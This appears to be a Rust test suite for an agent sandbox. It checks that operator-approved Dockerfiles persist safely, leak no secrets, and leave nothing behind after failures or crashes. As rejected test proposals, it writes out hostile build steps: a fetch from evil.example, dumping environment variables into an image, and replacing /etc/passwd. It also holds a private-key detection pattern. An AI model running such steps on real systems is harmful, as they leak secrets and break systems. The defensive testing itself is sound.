//! From a Dockerfile that an agent proposes to the session that goes on in its image; and what of it is left, whoever is
//! killed.

use crate::place::{Place, ask_for, id};
use anyhow::{Context, Result, ensure};
use bottle_tests::{
    bottle::{ENV_SECRET, REAL_TOKEN, Run, eventually, identity_in, left_in_engine, report},
    lab::Lab,
    target::Target,
};
use serde_json::{Value, json};
use std::{
    process::{Command, Stdio},
    time::Instant,
};

/// What the first image is made of. What must not be reached must not take long either; a step that reaches it fails.
const FIRST: &str = r#"FROM bottle
ENV GREETING="made of it" PATH=/opt/tool:$PATH
WORKDIR /opt/tool
RUN curl -sSf https://later.example/api/hello -o hello && chown 1000:1000 hello
RUN printf '#!/bin/sh\necho "$GREETING by $(id -u)"\n' > greet && chmod 0755 greet
# Neither another host, nor a name, nor an address without the proxy.
RUN [ "$(curl -s -o /dev/null -w '%{http_code}' https://other.example/)" = 403 ] \
    && ! getent hosts example.com \
    && ! curl -s -m 1 -o /dev/null --noproxy '*' https://ADDRESS/ \
    && [ ! -e /workspace/own ]
USER agent
RUN [ "$(id -u):$HOME:$(greet)" = "1000:/home/agent:made of it by 1000" ] && touch /home/agent/mine
"#;
/// What the second goes on from.
const SECOND: &str = "RUN greet > /opt/second";
/// What holds of the first image in a session.
const LOOK: &str = "greet; stat -c %u /opt/tool/hello ~/mine; cat /opt/second 2>/dev/null; pwd";

/// Has the agent propose a Dockerfile.
fn propose(dockerfile: &str) -> String {
    format!("@@tool mcp__supervise__capability-block {}", json!({"dockerfile": dockerfile, "justification": "a test"}))
}

fn bash(line: &str) -> String {
    format!("@@bash {line}")
}

fn resume(place: &Place, identity: &str, lines: &[String]) -> Result<bottle_tests::bottle::KillOnDrop> {
    place.home.start(&["resume", identity, "--yes", "--prompt", &lines.join("\n")], &[])
}

fn results(run: &Run) -> Result<Vec<String>> {
    run.results().with_context(|| format!("{run:?}"))
}

/// The images of a bottle's own that have a name.
fn own_images(identity: &str) -> Result<Vec<String>> {
    let all = Lab::get().docker(&["images", "--no-trunc", "--format", "{{.ID}} {{.Repository}}:{{.Tag}}"])?;
    let own = format!("claude-bottle:own-{identity}-");
    Ok(all.lines().filter(|line| line.contains(&own)).map(str::to_owned).collect())
}

/// A backend that builds no images says so, and the proposal waits.
fn is_refused(place: &Place) -> Result<()> {
    let session = place.session(&[propose("RUN true")])?;
    let proposal = place.waiting(&[])?;
    let run = place.home.run(&["supervise", "approve", id(&proposal)])?;
    ensure!(run.code == Some(1) && run.stderr.contains("does not support building images"), "{run:?}");
    ensure!(place.listed()?[0]["error"].as_str().is_some_and(|why| why.contains("building images")));
    place.decide(&["reject", id(&proposal), "--reason", "not here"])?;
    ensure!(results(&session.finish()?)?[0].contains("not here"));
    Ok(())
}

/// Of tests that `cargo xtask` leaves out elsewhere.
const ON_DOCKER: &str = "images are made on Docker alone";

#[test]
fn what_is_approved_is_there_when_the_bottle_is_resumed_and_holds_no_secret() -> Result<()> {
    let (place, lab, began) = (Place::new("env: {AGENT_SECRET: \"${HOST_SECRET}\"}\n")?, Lab::get(), Instant::now());
    if place.home.target() != Target::Docker {
        return is_refused(&place);
    }
    let first = FIRST.replace("ADDRESS", &place.standin.address.to_string());
    let lines = [bash("touch own"), ask_for("/api"), propose(&first), bash("command -v greet; true")];
    let session = place.session(&lines)?;
    let route = place.waiting(&[])?;
    place.decide(&["approve", id(&route)])?;
    let proposal = place.waiting(&[id(&route)])?;
    let once = place.home.run(&["supervise", "approve", "--once", id(&proposal)])?;
    ensure!(once.code == Some(1) && once.stderr.contains("never for this one"), "{once:?}");
    // What a session is told is searched for it, and what a command says to the operator is not.
    let running = proposal["identity"].as_str().context("an identity")?;
    let proxy = place.home.run(&["exec", running, "--", "printenv", "HTTPS_PROXY"])?.stdout;
    let capability = proxy.split([':', '@']).nth(2).context("a capability")?;
    let building = Instant::now();
    place.decide(&["approve", id(&proposal)])?;
    report(format!("an image of {} steps: {:.1} s", 6, building.elapsed().as_secs_f64()));
    let run = session.finish()?;
    let identity = identity_in(&run.stderr)?;
    let said = results(&run)?;
    ensure!(said[2].contains("was approved") && said[2].contains("once this bottle is resumed"), "{said:#?}");
    ensure!(!said[3].contains("greet"), "it is there already: {said:#?}");
    ensure!(run.stderr.contains(&format!("bottle resume {identity}")), "{run:?}");
    let applied = place.audited_of(&identity)?.into_iter().rfind(|record| record["event"] == "applied");
    let image = applied.as_ref().and_then(|record| record["image"].as_str()).context("an image is audited")?.to_owned();
    let named = own_images(&identity)?;
    ensure!(named == [format!("{image} claude-bottle:own-{identity}-{}", id(&proposal))], "{named:?}");
    // A cleanup leaves alone what a state goes on from.
    ensure!(place.home.run(&["cleanup", "--yes"])?.code == Some(0) && own_images(&identity)? == named);
    holds_none(&image, &[capability, REAL_TOKEN, ENV_SECRET])?;

    let session = resume(&place, &identity, &[bash(LOOK), propose(SECOND)])?;
    let second = place.waiting(&[])?;
    place.decide(&["approve", id(&second)])?;
    let run = session.finish()?;
    let said = results(&run)?;
    ensure!(said[0].lines().eq(["made of it by 1000", "1000", "1000", "/workspace"]), "{said:#?}");
    ensure!(run.stderr.contains(&format!("own-{identity}-{}", id(&proposal))), "the preflight: {run:?}");
    // The first one has no name any more: it goes with the second.
    let named = own_images(&identity)?;
    ensure!(named.len() == 1 && named[0].ends_with(id(&second)), "{named:?}");
    let run = resume(&place, &identity, &[bash(LOOK), bash("ls own")])?.finish()?;
    let said = results(&run)?;
    let all = ["made of it by 1000", "1000", "1000", "made of it by 0", "/workspace"];
    ensure!(said[0].lines().eq(all) && said[1] == "own", "{said:#?}");

    // Somebody takes it away.
    lab.docker(&["rmi", "-f", named[0].split(' ').next().context("an id")?])?;
    let run = resume(&place, &identity, &[bash("true")])?.finish()?;
    let hint = format!("bottle resume {identity} --forget-image");
    ensure!(run.code == Some(125) && run.stderr.contains("is gone") && run.stderr.contains(&hint), "{run:?}");
    let lines = bash("command -v greet; ls own");
    let run = place.home.run(&["resume", &identity, "--forget-image", "--yes", "--prompt", &lines])?;
    ensure!(results(&run)? == ["own"], "{run:?}");
    gone(&place, &identity)?;
    report(format!("the whole way: {:.1} s", began.elapsed().as_secs_f64()));
    Ok(())
}

/// Nothing of a bottle is left once its state is let go.
fn gone(place: &Place, identity: &str) -> Result<()> {
    let run = place.home.run(&["state", "rm", identity, "--yes"])?;
    ensure!(run.code == Some(0), "{run:?}");
    let cleanup = place.home.run(&["cleanup", "--yes"])?;
    ensure!(cleanup.code == Some(0), "{cleanup:?}");
    let left = left_in_engine(Lab::get(), identity)?;
    ensure!(left.is_empty(), "left: {left:?}");
    Ok(())
}

/// None of these stands in an image: neither in what the engine says of it nor in a file of it. Nor does a private key.
fn holds_none(image: &str, secrets: &[&str]) -> Result<()> {
    let lab = Lab::get();
    let said = [lab.docker(&["inspect", image])?, lab.docker(&["history", "--no-trunc", image])?].concat();
    for secret in secrets {
        ensure!(!said.contains(secret), "{secret}: {said}");
    }
    ensure!(!said.to_lowercase().contains("_proxy="), "{said}");
    let config: Value = serde_json::from_str(&lab.docker(&["inspect", image])?)?;
    let config = &config[0]["Config"];
    ensure!((&config["User"], &config["Entrypoint"]) == (&json!("1000:1000"), &Value::Null), "{config}");
    // The uppermost layer is what the steps have made.
    let script = r#"cd "$1" && docker save "$2" | tar -x && layer=$(tr ',' '\n' < manifest.json | grep -o '[^"[]*layer.tar' | tail -1) \
        && [ -s "$layer" ] && tar -tf "$layer" | grep -q '^opt/tool/greet$' \
        && shift 2 && for needle in "$@"; do ! grep -qaF -e "$needle" "$layer" || { echo "$needle"; exit 1; }; done \
        && ! grep -qazP 'BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/]{20}' "$layer""#;
    let dir = tempfile::tempdir()?;
    let searched = Command::new("sh")
        .args(["-euc", script, "sh"])
        .arg(dir.path())
        .arg(image)
        .args(secrets)
        .env("DOCKER_HOST", &lab.docker_host)
        .stderr(Stdio::piped())
        .output()?;
    ensure!(searched.status.success(), "{searched:?}");
    Ok(())
}

#[test]
fn what_fails_waits_on_with_its_last_words_and_leaves_nothing() -> Result<()> {
    let place = Place::new("")?;
    ensure!(place.home.target() == Target::Docker, "{ON_DOCKER}");
    let failing =
        "RUN echo one; echo 'no such tool: \u{1}' >&2; env | grep -i https_proxy; exit 3".replace('\u{1}', "jq");
    let lines = [
        propose("RUN true\nADD https://evil.example/x /x"),
        propose(&failing),
        propose("RUN env > /usr/local/environment"),
        propose("RUN setsid sleep 600 >/dev/null 2>&1 & exit 7"),
        propose("RUN rm /etc/passwd && mkfifo /etc/passwd"),
        propose("RUN truncate -s 9G /usr/local/holes"),
    ];
    let session = place.session(&lines)?;
    let mut decided: Vec<String> = vec![];
    let words: [&[&str]; 5] = [
        &["line 1", "ended with 3", "no such tool: jq", "https_proxy=http://bottle:[the"],
        &["password", "usr/local/environment"],
        &["ended with 7"],
        &["/etc/passwd"],
        &["8192 at most"],
    ];
    for words in words {
        let known: Vec<&str> = decided.iter().map(String::as_str).collect();
        let proposal = place.waiting(&known)?;
        let run = place.home.run(&["supervise", "approve", id(&proposal)])?;
        ensure!(run.code == Some(1) && run.stderr.contains("still waits"), "{run:?}");
        let shown = place.home.run(&["supervise", "--once"])?.stdout;
        for word in words {
            ensure!(run.stderr.to_lowercase().contains(&word.to_lowercase()), "{word}: {run:?}");
            ensure!(shown.to_lowercase().contains(&word.to_lowercase()), "{word}: {shown}");
        }
        let identity = proposal["identity"].as_str().context("an identity")?;
        let left = left_in_engine(Lab::get(), identity)?;
        ensure!(!left.iter().any(|thing| thing.contains("builder") || thing.contains("own-")), "{left:?}");
        decided.push(id(&proposal).to_owned());
        place.decide(&["reject", id(&proposal), "--reason", "it fails"])?;
    }
    let run = session.finish()?;
    let said = results(&run)?;
    ensure!(said[0].contains("line 2: ADD"), "{said:#?}");
    ensure!(said[1..].iter().all(|said| said.contains("it fails")), "{said:#?}");
    let failed = place.audited()?.iter().filter(|event| *event == "failed").count();
    ensure!(failed == words.len(), "{failed}");
    ensure!(run.code == Some(0) && place.home.identities().is_empty(), "{run:?}");
    Ok(())
}

/// What there is when the owner passes the fault point of that number in the making of an image of one step.
const POINTS: [(u32, &str); 4] =
    [(1, "a builder"), (2, "a step was taken"), (3, "an image that nobody knows of"), (4, "the state names it")];
/// From here on the next session goes on in it.
const NAMED: u32 = 4;

#[test]
fn an_owner_that_is_killed_meanwhile_leaves_nothing() -> Result<()> {
    let place = Place::new("")?;
    ensure!(place.home.target() == Target::Docker, "{ON_DOCKER}");
    // The other points are in the full run, and what becomes of the proposal.
    let identity = owner_killed(&place, 3)?;
    ensure!(place.listed()?.len() == 1, "nothing waits");
    gone(&place, &identity)
}

#[test]
#[ignore = "takes minutes: `cargo xtask test --full`"]
fn an_owner_that_is_killed_at_any_step_of_an_image_leaves_nothing() -> Result<()> {
    let place = Place::new("")?;
    ensure!(place.home.target() == Target::Docker, "{ON_DOCKER}");
    POINTS.iter().try_for_each(|(point, what)| approved_again(&place, *point).context(*what))
}

/// The identity of what is left of it.
fn owner_killed(place: &Place, point: u32) -> Result<String> {
    let what = || format!("killed when {point}: {:?}", POINTS[point as usize - 1].1);
    let fault = format!("kill@build:{point}");
    let prompt = propose("RUN touch /usr/local/made");
    let session =
        place.home.start(&["start", "dev", "--yes", "--prompt", &prompt], &[("CLAUDE_BOTTLE_FAULT", &fault)])?;
    let waiting = place.waiting(&[])?;
    let approve = place.home.run(&["supervise", "approve", id(&waiting)])?;
    ensure!(approve.code == Some(1), "{}: {approve:?}", what());
    let run = session.finish()?;
    ensure!(run.code.is_none(), "{}: {run:?}", what());
    let identity = identity_in(&run.stderr)?;
    let cleanup = place.home.run(&["cleanup", "--yes"])?;
    ensure!(cleanup.code == Some(0), "{}: {cleanup:?}", what());
    let left = left_in_engine(Lab::get(), &identity)?;
    ensure!(left.iter().all(|thing| point >= NAMED && thing.starts_with("image ")), "{}: {left:?}", what());
    ensure!(left.is_empty() == (point < NAMED), "{}: {left:?}", what());
    Ok(identity)
}

/// A proposal waits as it did; whoever approves it then has it.
fn approved_again(place: &Place, point: u32) -> Result<()> {
    let identity = owner_killed(place, point)?;
    let waiting = place.listed()?.pop().context("it waits")?;
    let made = bash("ls /usr/local/made");
    let session = resume(place, &identity, &[made.clone(), bash("until [ -e /workspace/go ]; do sleep 0.1; done")])?;
    let again = place.waiting(&[])?;
    ensure!(id(&again) == id(&waiting), "{again}");
    place.decide(&["approve", id(&again)])?;
    eventually("it goes on", || {
        place.home.run(&["exec", &identity, "--", "touch", "/workspace/go"]).ok().filter(|run| run.code == Some(0))
    })?;
    let first = results(&session.finish()?)?;
    ensure!((first[0] == "/usr/local/made") == (point >= NAMED), "{first:?}");
    let run = resume(place, &identity, &[made])?.finish()?;
    ensure!(results(&run)?[0] == "/usr/local/made", "{run:?}");
    gone(place, &identity)
}
